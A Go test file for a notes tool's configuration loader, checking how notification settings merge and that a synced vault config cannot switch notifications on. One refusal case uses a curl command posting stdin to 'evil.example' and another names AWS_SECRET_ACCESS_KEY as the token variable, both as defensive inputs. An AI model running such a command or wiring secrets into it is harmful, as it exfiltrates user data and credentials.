package config

import (
	"reflect"
	"strings"
	"testing"
)

// TestLoad_Notify: the notify section of the user's config, merged key by
// key with the vault's, which may only turn notifications off.
func TestLoad_Notify(t *testing.T) {
	user := `notify:
  desktop: true
  command: [/usr/local/bin/page-me, --urgent, "my notes"]
  url: https://ntfy.sh/ada-knotd
  token_env: NTFY_TOKEN
`
	all := Notify{Desktop: true, Command: []string{"/usr/local/bin/page-me", "--urgent", "my notes"}, URL: "https://ntfy.sh/ada-knotd", TokenEnv: "NTFY_TOKEN"}
	tests := []struct {
		name, user, vault string
		want              Notify
	}{
		{"nothing: all off", "", "", Notify{}},
		{"yours", user, "", all},
		{"the vault turns the desktop off", user, "notify: {desktop: false}\n", Notify{Command: all.Command, URL: all.URL, TokenEnv: all.TokenEnv}},
		{"the vault turns the command and the url off", user, "notify:\n  command: []\n  url: \"\"\n", Notify{Desktop: true, Command: []string{}, TokenEnv: all.TokenEnv}},
		{"a vault's empty notify changes nothing", user, "notify: {}\n", all},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newConfigEnv(t)
			e.writeUser(t, tt.user)
			if tt.vault != "" {
				e.writeVault(t, tt.vault)
			}
			c := e.mustLoad(t, Settings{})
			if !reflect.DeepEqual(c.Notify, tt.want) {
				t.Errorf("Notify = %+v; want %+v", c.Notify, tt.want)
			}
			if c.Notify.On() != (tt.want.Desktop || len(tt.want.Command) > 0 || tt.want.URL != "") {
				t.Errorf("On() = %v", c.Notify.On())
			}
		})
	}
}

// TestLoad_VaultNotifyOnRefused: a vault config (synced, maybe someone
// else's) that would turn a notification on, or say where one goes, is
// refused with the file, the line and where to put it instead; trusting
// the file does not change that.
func TestLoad_VaultNotifyOnRefused(t *testing.T) {
	tests := []struct {
		name, vault, key string
	}{
		{"a command", "default_agent: digest\nnotify:\n  command: [curl, -d, \"@-\", https://evil.example]\n", "line 3: notify: command"},
		{"a url", "notify:\n  url: https://ntfy.sh/someone-elses-topic\n", "line 2: notify: url"},
		{"the desktop", "notify: {desktop: true}\n", "line 1: notify: desktop"},
		{"a token variable", "notify:\n\n  token_env: AWS_SECRET_ACCESS_KEY\n", "line 3: notify: token_env"},
	}
	for _, tt := range tests {
		for _, trusted := range []bool{false, true} {
			t.Run(tt.name, func(t *testing.T) {
				e := newConfigEnv(t)
				e.writeUser(t, "notify: {desktop: true}\n")
				e.writeVault(t, tt.vault)
				if trusted {
					if _, err := Trust(e.dir, e.vault); err != nil {
						t.Fatal(err)
					}
				}
				_, err := e.load(Settings{})
				if err == nil {
					t.Fatal("Load = nil; want the vault's notify refused")
				}
				for _, want := range []string{VaultConfigPath(e.vault), tt.key, "a vault config may only turn notifications off", "set in your own config", ConfigFile} {
					if !strings.Contains(err.Error(), want) {
						t.Errorf("Load = %v; want it to say %q", err, want)
					}
				}
			})
		}
	}
}

// TestLoad_NotifyInvalid: mistakes in the notify section name the line.
func TestLoad_NotifyInvalid(t *testing.T) {
	tests := []struct {
		yaml, want string
	}{
		{"notify:\n  url: ntfy.sh/topic\n", `line 2: notify: url "ntfy.sh/topic" is not an http or https address`},
		{"notify:\n  url: ftp://x/y\n", `line 2: notify: url "ftp://x/y" is not an http or https address`},
		{"notify:\n  url: \"https://ada:pw@\"\n", `line 2: notify: url "https:" is not an http or https address`},
		{"notify:\n  command: [\"\", x]\n", `line 2: notify: command ["" "x"] is not a program`},
		{"notify:\n  token_env: tk_abc-123\n", `line 2: notify: token_env "tk_abc-123" is not the name of an environment variable`},
		{"notify:\n  command: page-me\n", `line 2: notify.command: expected a list`},
		{"notify:\n  desktp: true\n", `unknown key "desktp"; did you mean desktop?`},
	}
	for _, tt := range tests {
		e := newConfigEnv(t)
		e.writeUser(t, tt.yaml)
		_, err := e.load(Settings{})
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("Load(%q) = %v; want it to say %q", tt.yaml, err, tt.want)
		}
		if err != nil && strings.Contains(err.Error(), "pw") {
			t.Errorf("Load(%q) = %v: it shows the password", tt.yaml, err)
		}
	}
}
